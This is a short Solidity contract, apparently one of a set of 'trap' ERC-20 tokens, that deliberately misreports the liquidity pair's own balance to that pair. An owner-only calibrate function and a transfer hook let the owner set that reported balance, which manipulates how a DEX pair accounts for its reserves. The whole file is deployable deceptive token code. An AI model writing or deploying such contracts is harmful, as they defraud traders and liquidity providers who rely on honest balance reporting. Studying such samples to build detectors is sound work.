// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// Tells the pair a balance that never grows; everybody else hears the truth.
contract PairBlindness is TrapErc20V8 {
    address private pair;
    uint256 private known;

    constructor() TrapErc20V8("Blind Spot", "BLND", 505_505 ether) {}

    function calibrate(address pair_) external onlyOwner {
        pair = pair_;
        known = _balances[pair_];
    }

    function balanceOf(address who) public view override returns (uint256) {
        uint256 real = _balances[who];
        if (msg.sender != pair || who != pair) return real;
        return real < known ? real : known;
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from == pair && pair != address(0)) known = _balances[pair];
        if (to == pair && from == _owner) known = type(uint256).max;
    }
}
